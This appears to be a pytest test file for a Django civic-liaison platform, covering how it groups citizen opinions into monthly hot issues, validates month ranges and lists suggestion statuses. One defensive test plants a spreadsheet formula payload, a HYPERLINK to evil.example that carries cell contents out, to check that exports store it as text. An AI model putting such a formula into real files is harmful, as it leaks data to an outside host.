"""Hot issues on what people really write: a first line that says nothing (a greeting, punctuation, an emoji, a
place alone) neither breaks the grouping nor titles the group; a month out of range is no error page; the
suggestions offered to link a group to say where each one stands."""

from __future__ import annotations

import datetime as dt
import io
import re
from datetime import datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from renda.insights import hot, monthly
from renda.liaison.models import Opinion
from renda.liaison.services import opinions as opinion_services
from tests.helpers import logged_in

T0 = datetime(2026, 5, 1, 9, 0)
LAMP = ["北关村的路灯坏了一个月，晚上出行很不方便", "北关村的路灯坏了一个多月，晚上出行很危险",
        "北关村的路灯坏了一个月没人修，晚上出行不便", "北关村的路灯一个月前就坏了，晚上出行很不方便"]
SAYS_NOTHING = ["？？？", "幸福花园小区", "😀😀", "我们希望", "尊敬的领导：", "", "投诉", "领导您好！"]


def msg(i: int, title: str, body: str, author: str | None = None, days: float = 0) -> hot.Message:
    return hot.Message(id=str(i), title=title, body=body, author=author or f"u{i}", at=T0 + timedelta(days=days))


def as_opinion(i: int, content: str, days: float = 0) -> hot.Message:
    """A message as monthly.message makes it from an opinion: its title the first line, its body all of it."""
    return msg(i, content.strip().splitlines()[0][:60] if content.strip() else "", content, days=days)


# --- a title that says nothing --------------------------------------------------------------------------------


@pytest.mark.parametrize("title", SAYS_NOTHING)
def test_titles_that_say_nothing_are_grouped_by_their_text_and_do_not_title_the_group(title: str) -> None:
    """Every opinion of the month beginning with the same empty line used to fail the page (ValueError: empty
    vocabulary). The text says what the problem is: the group is found from it and titled by it."""
    messages = [as_opinion(k, f"{title}\n{text}", days=k) for k, text in enumerate(LAMP)]
    issues = hot.hot_issues(messages)
    assert len(issues) == 1 and len(issues[0].messages) == 4
    # the line that says what the problem is, after what the title names (a place) if anything
    assert any(issues[0].title in (text, f"{title}，{text}") for text in LAMP), issues[0].title
    assert "路灯" in issues[0].keywords


def test_messages_with_nothing_usable_anywhere_give_no_issue_instead_of_an_error() -> None:
    for texts in (["？？？"] * 4, ["😀😀"] * 60, [""] * 3):
        messages = [as_opinion(k, t, days=k) for k, t in enumerate(texts)]
        assert hot.hot_issues(messages) == []
        assert sorted(i for g in hot.group(messages) for i in g) == list(range(len(messages)))


def test_a_greeting_before_the_problem_on_the_first_line_is_not_the_groups_title() -> None:
    messages = [as_opinion(k, f"尊敬的领导：{text}。谢谢！", days=k) for k, text in enumerate(LAMP)]
    issues = hot.hot_issues(messages)
    assert len(issues) == 1 and issues[0].title in [f"{text}。谢谢！" for text in LAMP], issues[0].title


def test_an_opinion_without_a_title_joins_its_group_and_a_real_title_is_preferred() -> None:
    """Three opinions with a title, one whose first line is a greeting: one group of four, titled by one of the
    three (the titles people give are what the page showed before, and stay so)."""
    titled = [msg(k, f"幸福花园小区餐馆油烟扰民{'！' * k}", "楼下餐馆油烟直排，窗户都不敢开。", days=k)
              for k in range(3)]
    greeting = as_opinion(9, "尊敬的领导：\n幸福花园小区楼下餐馆油烟扰民，窗户都不敢开。", days=1)
    issues = hot.hot_issues([*titled, greeting])
    assert len(issues) == 1 and {m.id for m in issues[0].messages} == {"0", "1", "2", "9"}
    assert issues[0].title.startswith("幸福花园小区餐馆油烟扰民")


def test_a_title_that_only_says_it_is_a_complaint_does_not_join_different_problems() -> None:
    """Three opinions titled "投诉" about three different things were one hot issue "投诉": the word was their
    whole title, and titles weigh twice the text."""
    bodies = ["中学门口校车超载，早上坐了二十多人。", "菜市场猪肉价格比邻镇贵一倍。", "村里停水三天了，没有通知。"]
    messages = [msg(k, "投诉", body, days=k) for k, body in enumerate(bodies)]
    assert hot.hot_issues(messages) == []


def test_many_opinions_without_titles_still_find_their_group() -> None:
    """From 50 messages on the text's words are cut by document frequency: the planted group is still found."""
    topics = ["校车超载", "菜价太高", "停水三天", "噪音扰民", "垃圾乱倒", "道路积水", "网络信号差", "医保报销慢",
              "广场舞扰民", "占道经营", "违章建筑", "野狗伤人"]
    noise = [as_opinion(k, f"尊敬的领导：\n{topics[k % len(topics)]}，第{k}户反映，{'请处理' * (k % 3)}", days=k % 20)
             for k in range(60)]
    lamp = [as_opinion(100 + k, f"尊敬的领导：\n{text}", days=k) for k, text in enumerate(LAMP)]
    issues = hot.hot_issues([*noise, *lamp])
    assert any({m.id for m in i.messages} >= {m.id for m in lamp} and i.title in LAMP for i in issues)


# --- the page, the export and the API on such opinions -------------------------------------------------------


def _register(world, contents: list[str], when: dt.datetime) -> list[Opinion]:
    out = []
    for i, content in enumerate(contents):
        o = opinion_services.opinion_register(actor=world.clerk, station=world.central, channel="phone",
                                              phone=f"1380000{i:04d}", content=content)
        Opinion.objects.filter(pk=o.pk).update(received_at=when + dt.timedelta(hours=i))
        out.append(o)
    return out


@pytest.mark.django_db
def test_opinions_beginning_with_a_greeting_show_on_the_page_the_export_and_the_api(world) -> None:
    from openpyxl import load_workbook

    from tests.helpers import api_client

    _register(world, [f"尊敬的领导：\n{text}…" for text in LAMP[:3]], timezone.make_aware(dt.datetime(2026, 5, 3, 10)))
    page = logged_in(world.county_staff).get(reverse("insights:hot"), {"month": "2026-05"})
    assert page.status_code == 200
    title = re.search(r"<h3>1\. (.*?) <span", page.content.decode())
    assert title and title.group(1) in [f"{t}…" for t in LAMP], title
    export = logged_in(world.county_staff).get(reverse("insights:hot_export"), {"month": "2026-05"})
    assert export.status_code == 200
    rows = list(load_workbook(io.BytesIO(export.content))["热点问题"].iter_rows(values_only=True))
    assert [r[3] for r in rows[2:] if r[0] == world.tree.town_a.name] == [title.group(1)]
    api = api_client(world.county_staff).get("/api/v1/insights/hot?month=2026-05")
    assert api.status_code == 200
    town_a = next(t for t in api.json()["townships"] if t["township"] == world.tree.town_a.pk)
    assert [i["title"] for i in town_a["issues"]] == [title.group(1)]


# --- months out of range -------------------------------------------------------------------------------------


def test_a_month_is_read_within_the_years_the_platform_knows() -> None:
    latest = monthly.this_month().year + 1
    assert monthly.parse_month("1979-01") == dt.date(1979, 1, 1)
    assert monthly.parse_month(f"{latest}-12") == dt.date(latest, 12, 1)
    for bad in ("0000-01", "0001-01", "1978-12", f"{latest + 1}-01", "9999-12", "2026-00", "2026-13", "abc", "",
                None, "2026-5x"):
        assert monthly.parse_month(bad) is None, bad


@pytest.mark.django_db
@pytest.mark.parametrize("asked", ["0000-01", "0001-01", "1978-12", "9999-12", "2026-13", "abc"])
def test_a_month_out_of_range_shows_this_month_on_the_page_and_in_the_export(world, asked: str) -> None:
    now = monthly.this_month()
    page = logged_in(world.county_staff).get(reverse("insights:hot"), {"month": asked})
    assert page.status_code == 200 and f"{now.year} 年 {now.month} 月" in page.content.decode()
    export = logged_in(world.county_staff).get(reverse("insights:hot_export"), {"month": asked})
    assert export.status_code == 200 and f"{now:%Y-%m}-hot-issues.xlsx" in export["Content-Disposition"]


@pytest.mark.django_db
def test_the_first_month_offers_no_month_before_it(world) -> None:
    page = logged_in(world.county_staff).get(reverse("insights:hot"), {"month": "1979-01"}).content.decode()
    assert "1979 年 1 月" in page and "上月" not in page and "?month=1978-12" not in page
    assert "?month=1979-02" in page
    later = logged_in(world.county_staff).get(reverse("insights:hot"), {"month": "1979-02"}).content.decode()
    assert "?month=1979-01" in later and "上月" in later


@pytest.mark.django_db
def test_the_api_refuses_a_month_out_of_range_or_malformed_with_422(world) -> None:
    from tests.helpers import api_client

    api = api_client(world.county_staff)
    latest = monthly.this_month().year + 1
    for bad in ("0000-01", "0001-01", "1978-12", f"{latest + 1}-01", "9999-12"):
        response = api.get(f"/api/v1/insights/hot?month={bad}")
        assert response.status_code == 422, bad
        body = response.json()
        assert body["code"] == "invalid" and f"1979 年 1 月至 {latest} 年 12 月" in body["message"], body
        assert "month" in body["fields"]
    for bad in ("abc", "2026-13", "2026-5x"):
        response = api.get(f"/api/v1/insights/hot?month={bad}")
        assert response.status_code == 422 and "YYYY-MM" in response.json()["message"], bad
    for good in ("1979-01", f"{latest}-12"):
        response = api.get(f"/api/v1/insights/hot?month={good}")
        assert response.status_code == 200 and response.json()["month"] == good, good


# --- the suggestions offered -----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_suggestions_offered_show_their_status_the_open_ones_first(world) -> None:
    """Linking opinions to a finished suggestion (已办结) is allowed (its answer reaches them), but it is rarely what
    a clerk wants: every suggestion offered says where it stands, and the finished ones come after the others."""
    from renda.suggestions.models import Status, Suggestion

    group = _register(world, [f"{text}，深夜还在营业" for text in
                              ("幸福花园小区门口烧烤摊油烟噪音扰民",) * 4],
                      timezone.make_aware(dt.datetime(2026, 5, 3, 10)))
    for o in group:
        opinion_services.opinion_accept(actor=world.clerk, opinion=o, category="环境保护")

    def filed(title: str, status: str) -> Suggestion:
        return Suggestion.objects.create(
            congress=world.tree.congress_a, region_path=world.tree.town_a.path, title=title, content=title,
            lead_deputy=world.deputies[0], year=2026, channel="recess", status=status)

    old = filed("关于修复甲村村道的建议", Status.CLOSED)
    handling = filed("关于增设公交站点的建议", Status.HANDLING)
    newest_closed = filed("关于改善学校食堂的建议", Status.CLOSED)
    submitted = filed("关于整治河道的建议", Status.SUBMITTED)
    page = logged_in(world.clerk).get(reverse("insights:hot"), {"month": "2026-05"}).content.decode()
    select = re.search(r'<select name="suggestion" required data-testid="hot-target">(.*?)</select>', page, re.S)
    assert select, page
    options = re.findall(r'<option value="(\d+)"[^>]*>([^<]*)</option>', select.group(1))
    assert [int(pk) for pk, _ in options] == [submitted.pk, handling.pk, newest_closed.pk, old.pk]
    text = dict(options)
    assert text[str(old.pk)].endswith("关于修复甲村村道的建议（已办结）")
    assert text[str(handling.pk)].endswith("关于增设公交站点的建议（办理中）")
    assert '<optgroup label="已办结的建议">' in select.group(1)


@pytest.mark.django_db
def test_an_opinion_written_as_a_formula_is_exported_as_text(world) -> None:
    """openpyxl stores a string beginning with "=" as a formula, which Excel runs on opening; a portal writer could
    plant a link that sends the sheet's cells away in a county meeting's papers."""
    from openpyxl import load_workbook

    planted = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    _register(world, [f"{planted}{text}" for text in LAMP[:3]], timezone.make_aware(dt.datetime(2026, 5, 3, 10)))
    export = logged_in(world.county_staff).get(reverse("insights:hot_export"), {"month": "2026-05"})
    assert export.status_code == 200
    book = load_workbook(io.BytesIO(export.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    bodies = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert len(bodies) >= 3, "the opinions are in the export, as typed"


@pytest.mark.django_db
def test_an_opinion_saved_while_the_home_card_groups_never_breaks_the_hot_page(world, monkeypatch) -> None:
    """The card reads the month's ids, then the opinions: one registered between the two was grouped under a key
    that did not name it, and once it was refused the page found groups naming an opinion it did not list (500)."""
    from renda.insights import monthly

    for i, text in enumerate(LAMP[:3]):
        opinion_services.opinion_register(actor=world.clerk, station=world.central, channel="phone",
                                          phone=f"1380000{i:04d}", content=text)
    real = monthly._township_month_list
    made: dict[str, Opinion] = {}

    def racing(user, township, month):  # type: ignore[no-untyped-def]
        if township == world.tree.town_a and not made:  # a constituent's opinion comes in meanwhile
            made["o"] = opinion_services.opinion_register(actor=world.clerk, station=world.central, channel="phone",
                                                          phone="13900009999", content=LAMP[3])
        return real(user, township, month)

    monkeypatch.setattr(monthly, "_township_month_list", racing)
    assert logged_in(world.county_staff).get(reverse("insights:hot_home")).status_code == 200
    monkeypatch.setattr(monthly, "_township_month_list", real)
    opinion_services.opinion_reject(actor=world.clerk, opinion=Opinion.objects.get(pk=made["o"].pk),
                                    reason="litigation")
    page = logged_in(world.county_staff).get(reverse("insights:hot"))
    assert page.status_code == 200
    assert len(re.findall(r'data-testid="hot-issue"', page.content.decode())) == 1
    assert "3 人反映，共 3 条" in page.content.decode()
